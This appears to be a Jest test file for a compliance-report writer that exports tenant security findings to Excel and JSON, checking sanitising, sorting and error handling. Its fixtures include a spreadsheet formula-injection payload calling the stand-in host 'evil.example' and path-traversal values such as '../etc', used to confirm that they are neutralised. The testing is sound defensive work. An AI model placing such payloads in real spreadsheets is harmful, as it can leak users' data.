import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import * as XLSX from 'xlsx';
import { FINDINGS_HEADER } from './helpers/workbook-reader';

import type { ControlResult, Finding } from '../src/controls/types';
import { MAX_CELL_TEXT, safeCellText, safeSheetName } from '../src/reports/cell-text';
import { buildRunResults, resultsJsonChunks } from '../src/reports/results-json';
import { InvalidRunPathError, runDirectory } from '../src/reports/run-paths';
import { buildWorkbookLayout, type CellValue } from '../src/reports/workbook-layout';
import { writeRunReport } from '../src/reports/write-run-report';
import { ReportWriteError, writeWorkbook } from '../src/reports/write-workbook';

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak","Click me")';
const PLUS = '+1 forwards to attacker@evil.example';
const AT_SUM = '@SUM(1+1)';
const MINUS = '-2+3';
const WITH_CONTROL = 'Forwards\u0001 to 📧 attacker@evil.example: מחלקת כספים';
const LONG = 'x'.repeat(40_000);

function findings(): Finding[] {
  return [
    { assetType: 'mailbox', assetId: 'mbx-3', assetName: 'zed@contoso.com', detail: LONG },
    { assetType: 'mailbox', assetId: MINUS, assetName: HYPERLINK, detail: PLUS },
    { assetType: 'mailbox', assetId: 'mbx-2', assetName: AT_SUM, detail: WITH_CONTROL, severity: 'medium' },
  ];
}

function controls(): ControlResult[] {
  return [
    {
      id: 'CRW-ID-02',
      title: 'Global Administrator count is within range',
      severity: 'high',
      status: 'pass',
      reason: null,
      references: ['CIS 1.1.3', 'MS.AAD.7.1v1'],
      findings: [],
    },
    {
      id: 'CRW-EXO-04',
      title: 'No mailbox forwards to external domains',
      severity: 'high',
      status: 'fail',
      reason: null,
      references: [],
      findings: findings(),
    },
  ];
}

function runResults() {
  return buildRunResults({
    tenant: { name: 'contoso', tenantId: '00000000-0000-0000-0000-0000000000c0' },
    runId: 'run-42',
    startedAt: new Date('2024-03-01T23:30:00Z'),
    finishedAt: new Date('2024-03-02T00:10:05Z'),
    controls: controls(),
  });
}

let tmp: string;
beforeEach(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'crw-report-'));
});
afterEach(() => {
  fs.rmSync(tmp, { recursive: true, force: true });
});

/** Every file under `dir`, relative, sorted. */
function listFiles(dir: string): string[] {
  return (fs.readdirSync(dir, { recursive: true }) as string[]).sort();
}

function sheetRows(sheet: XLSX.WorkSheet, fromRow: number): unknown[][] {
  return XLSX.utils.sheet_to_json<unknown[]>(sheet, { header: 1, range: fromRow - 1, defval: null });
}

describe('safeSheetName', () => {
  it.each([
    ['Findings', 'Findings'],
    ['a/b\\c?d*e[f]g:h', 'a b c d e f g h'],
    ["'quoted'", 'quoted'],
    ['', 'Sheet'],
    ['x'.repeat(40), 'x'.repeat(31)],
    ['Bad\u0001name', 'Badname'],
  ])('makes %j a sheet name Excel accepts: %j', (name, expected) => {
    expect(safeSheetName(name)).toBe(expected);
  });

  it('keeps names unique the way Excel compares them (case-insensitively), within 31 characters', () => {
    expect(safeSheetName('users', new Set(['Users']))).toBe('users (2)');
    expect(safeSheetName('x'.repeat(40), new Set(['x'.repeat(31)]))).toBe(`${'x'.repeat(27)} (2)`);
  });
});

describe('safeCellText', () => {
  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx', '\nx'])(
    'guards %j with a visible apostrophe',
    (v) => {
      expect(safeCellText(v)).toBe(`'${v}`);
    },
  );

  it('keeps ordinary text, emoji and right-to-left text as is', () => {
    expect(safeCellText('a=b 😀 שלום')).toBe('a=b 😀 שלום');
  });

  it('removes characters that XML cannot carry', () => {
    expect(safeCellText('a\u0000b\u0001c\u001Fd\uFFFEe\uFFFFf\uD800g\uDC00h\tI\r\nJ')).toBe(
      'abcdefgh\tI\r\nJ',
    );
  });

  it('cuts long text to the Excel limit with a marker, without splitting a surrogate pair', () => {
    const cut = safeCellText('😀'.repeat(20_000));
    expect(cut.length).toBeLessThanOrEqual(MAX_CELL_TEXT);
    expect(cut.endsWith('… [truncated: 40000 chars]')).toBe(true);
    expect(cut.replace('… [truncated: 40000 chars]', '')).toMatch(/^(😀)+$/u);
    expect(safeCellText('a'.repeat(MAX_CELL_TEXT))).toBe('a'.repeat(MAX_CELL_TEXT));
  });
});

describe('runDirectory', () => {
  it('builds <reports>/<tenant>/<UTC date>-<runId>', () => {
    const start = new Date('2024-03-01T23:30:00-05:00'); // already 2 March in UTC
    expect(runDirectory('/r', 'contoso', start, 'run-1')).toBe(
      path.join('/r', 'contoso', '2024-03-02-run-1'),
    );
  });

  it.each(['..', '../etc', '.hidden', 'a/b', 'a\\b', '', 'x:y', 'a b', 'a'.repeat(129)])(
    'rejects %j as tenant name or run id',
    (bad) => {
      expect(() => runDirectory('/r', bad, new Date(0), 'run-1')).toThrow(InvalidRunPathError);
      expect(() => runDirectory('/r', 'contoso', new Date(0), bad)).toThrow(/Invalid run id/);
    },
  );
});

describe('buildRunResults', () => {
  it('sorts controls by id and findings by assetName, detail, assetId in code-unit order', () => {
    const input = controls();
    const fail = input[1] as ControlResult;
    fail.findings = [
      { assetType: 'user', assetId: '2', assetName: 'adam', detail: 'b' },
      { assetType: 'user', assetId: '9', assetName: 'Zed', detail: 'a' },
      { assetType: 'user', assetId: '1', assetName: 'adam', detail: 'b' },
      { assetType: 'user', assetId: '5', assetName: 'adam', detail: 'B' },
      { assetType: 'user', assetId: '3', assetName: 'Émile', detail: 'a' },
    ];
    const before = JSON.stringify(input);
    const results = buildRunResults({
      tenant: { name: 't', tenantId: 'id' },
      runId: 'r',
      startedAt: new Date(0),
      finishedAt: new Date(1000),
      controls: input,
    });
    expect(results.controls.map((c) => c.id)).toEqual(['CRW-EXO-04', 'CRW-ID-02']);
    // 'Z' (0x5A) < 'a' (0x61) < 'É' (0xC9); 'B' < 'b'; then assetId.
    expect(results.controls[0]?.findings.map((f) => f.assetId)).toEqual(['9', '5', '1', '2', '3']);
    expect(results.summary).toEqual({ pass: 1, fail: 1, error: 0, skipped: 0, findings: 5 });
    expect(results.startedAt).toBe('1970-01-01T00:00:00.000Z');
    expect(results.finishedAt).toBe('1970-01-01T00:00:01.000Z');
    expect(JSON.stringify(input)).toBe(before); // the caller's arrays are not reordered
  });
});

describe('writeRunReport', () => {
  it('writes a workbook that an independent reader sees as specified, and results.json', async () => {
    const results = runResults();
    const paths = await writeRunReport(tmp, results);

    const directory = path.join(tmp, 'contoso', '2024-03-01-run-42');
    expect(paths).toMatchObject({
      directory,
      workbookPath: path.join(directory, 'report.xlsx'),
      resultsPath: path.join(directory, 'results.json'),
    });
    expect(paths.drift.previous).toBeNull(); // the tenant's first run
    expect(listFiles(tmp)).toEqual([
      'contoso',
      path.join('contoso', '2024-03-01-run-42'),
      path.join('contoso', '2024-03-01-run-42', 'first-seen.json'),
      path.join('contoso', '2024-03-01-run-42', 'report.xlsx'),
      path.join('contoso', '2024-03-01-run-42', 'results.json'),
    ]);

    const json = fs.readFileSync(paths.resultsPath, 'utf8');
    expect(JSON.parse(json)).toEqual(results);
    expect(json).toBe(`${JSON.stringify(results, null, 2)}\n`);

    const book = XLSX.readFile(paths.workbookPath, { cellDates: true, cellFormula: true, cellStyles: true });
    expect(book.SheetNames).toEqual(['Summary', 'Findings', 'Changes']);
    expect(book.Props?.Author).toBe('compliance-report-worker');
    expect(book.Props?.Title).toContain('contoso');
    const summary = book.Sheets.Summary as XLSX.WorkSheet;
    const findingsSheet = book.Sheets.Findings as XLSX.WorkSheet;

    // Summary header block: real dates (shown in UTC), score, counts.
    for (const [address, text] of [
      ['B4', '2024-03-01 23:30:00'],
      ['B5', '2024-03-02 00:10:05'],
    ] as const) {
      expect(summary[address]).toMatchObject({ t: 'd', w: text });
    }
    expect(summary.A6?.v).toMatch(/^Score/);
    expect(summary.B6).toMatchObject({ t: 'n', v: 0.5, w: '50.0%' });
    expect(summary.B11).toMatchObject({ t: 'n', v: 3 });

    // Summary table: header, one row per control in id order, coloured status.
    const summaryTable = sheetRows(summary, 13);
    expect(summaryTable[0]).toEqual([
      'Control',
      'Title',
      'Severity',
      'Status',
      'Findings',
      'Change since last run',
      'Reason',
    ]);
    expect(summaryTable.slice(1)).toEqual([
      ['CRW-EXO-04', 'No mailbox forwards to external domains', 'high', 'fail', 3, 'first run', null],
      ['CRW-ID-02', 'Global Administrator count is within range', 'high', 'pass', 0, 'first run', null],
    ]);
    expect(summary.D14?.s).toMatchObject({ patternType: 'solid', fgColor: { rgb: 'FFC7CE' } });
    expect(summary.D15?.s).toMatchObject({ patternType: 'solid', fgColor: { rgb: 'C6EFCE' } });
    expect(summary['!autofilter']).toEqual({ ref: 'A13:G15' });
    // The failing control links to its first finding (an internal link, no relationship); the passing one does not.
    expect(summary.A14?.l).toMatchObject({ Target: '#Findings!A2' });
    expect(summary.A15?.l).toBeUndefined();

    // Findings: one row per finding; high before medium, then results order (assetName, code units).
    const findingRows = sheetRows(findingsSheet, 1);
    expect(findingRows[0]).toEqual(FINDINGS_HEADER);
    expect(findingRows.length - 1).toBe(results.summary.findings);
    expect(findingsSheet['!autofilter']).toEqual({ ref: 'A1:I4' });
    const [, first, second, third] = findingRows;
    // No remediation map was given; a first run's findings are new as of its start (a date cell).
    const started = new Date('2024-03-01T23:30:00Z');
    expect(first).toEqual([
      'CRW-EXO-04',
      'high',
      'mailbox',
      `'${HYPERLINK}`,
      `'${MINUS}`,
      `'${PLUS}`,
      null,
      started,
      'new',
    ]);
    expect(second?.slice(0, 5)).toEqual(['CRW-EXO-04', 'high', 'mailbox', 'zed@contoso.com', 'mbx-3']);
    expect(third).toEqual([
      'CRW-EXO-04',
      'medium',
      'mailbox',
      `'${AT_SUM}`,
      'mbx-2',
      WITH_CONTROL.replace('\u0001', ''),
      null,
      started,
      'new',
    ]);
    expect(findingsSheet.H2?.t).toBe('d');
    const long = second?.[5] as string;
    expect(long.length).toBeLessThanOrEqual(MAX_CELL_TEXT);
    expect(long.endsWith('… [truncated: 40000 chars]')).toBe(true);
    expect(long.startsWith('x'.repeat(32_000))).toBe(true);

    // No formulas anywhere, and no text that a spreadsheet would turn into one.
    for (const sheet of [summary, findingsSheet]) {
      for (const [address, cell] of Object.entries(sheet)) {
        if (address.startsWith('!')) continue;
        const c = cell as XLSX.CellObject;
        expect(c.f).toBeUndefined();
        if (c.t === 's') expect(String(c.v)).not.toMatch(/^[=+\-@\t\r\n]/);
      }
    }
  });

  it('fails with the path when the reports directory is a file, leaving nothing behind', async () => {
    const blocker = path.join(tmp, 'reports');
    fs.writeFileSync(blocker, 'not a folder');
    const error = await writeRunReport(blocker, runResults()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ReportWriteError);
    expect((error as Error).message).toContain(path.join(blocker, 'contoso', '2024-03-01-run-42'));
    expect((error as Error).message).toContain('ENOTDIR');
    expect(listFiles(tmp)).toEqual(['reports']);
  });

  it('removes report.xlsx and temporary files when results.json cannot be written', async () => {
    const directory = path.join(tmp, 'contoso', '2024-03-01-run-42');
    fs.mkdirSync(path.join(directory, 'results.json'), { recursive: true }); // a folder in the way
    const error = await writeRunReport(tmp, runResults()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ReportWriteError);
    expect((error as Error).message).toContain(path.join(directory, 'results.json'));
    expect(fs.readdirSync(directory)).toEqual(['results.json']);
    expect(fs.statSync(path.join(directory, 'results.json')).isDirectory()).toBe(true);
  });
});

describe('writeWorkbook failures', () => {
  const layout = () => buildWorkbookLayout(runResults());

  it('names the path when its parent is a file and leaves no temporary file', async () => {
    fs.writeFileSync(path.join(tmp, 'file'), '');
    const target = path.join(tmp, 'file', 'report.xlsx');
    await expect(writeWorkbook(target, layout())).rejects.toThrow(
      `A file is in the way while writing ${target} (ENOTDIR)`,
    );
    expect(listFiles(tmp)).toEqual(['file']);
  });

  // Many rows make the row loop see the dead stream before its error arrives: the cause must still be ENOSPC.
  const bigLayout = () => {
    const layoutWithRows = layout();
    const findingsSheet = layoutWithRows.sheets[1]!;
    const [row = []] = [...(findingsSheet.rows as Iterable<CellValue[]>)];
    findingsSheet.rows = Array.from({ length: 2500 }, () => [...row]);
    findingsSheet.rowCount = 2500;
    return layoutWithRows;
  };
  const itWithDevFull = fs.existsSync('/dev/full') ? it : it.skip;
  itWithDevFull.each([
    ['a small', layout],
    ['a large', bigLayout],
  ])('reports a full disk for %s workbook (a real ENOSPC from /dev/full)', async (_, make) => {
    const target = path.join(tmp, 'report.xlsx');
    const error = await writeWorkbook(target, make(), {
      openStream: () => fs.createWriteStream('/dev/full'),
    }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ReportWriteError);
    expect((error as ReportWriteError).code).toBe('ENOSPC');
    expect((error as Error).message).toBe(
      `Disk full while writing ${target} (ENOSPC): free space on the reports volume, then run the report again`,
    );
    expect(listFiles(tmp)).toEqual([]);
  });
});

describe('results.json text', () => {
  it('is exactly JSON.stringify(results, null, 2), streamed piece by piece', () => {
    const results = runResults();
    const text = [...resultsJsonChunks(results)].join('');
    expect(text).toBe(JSON.stringify(results, null, 2));
    expect(results.controls.some((c) => c.findings.length === 0)).toBe(true);
    expect(results.controls.some((c) => c.findings.length > 1)).toBe(true);
    const empty = { ...results, controls: [] };
    expect([...resultsJsonChunks(empty)].join('')).toBe(JSON.stringify(empty, null, 2));
  });
});
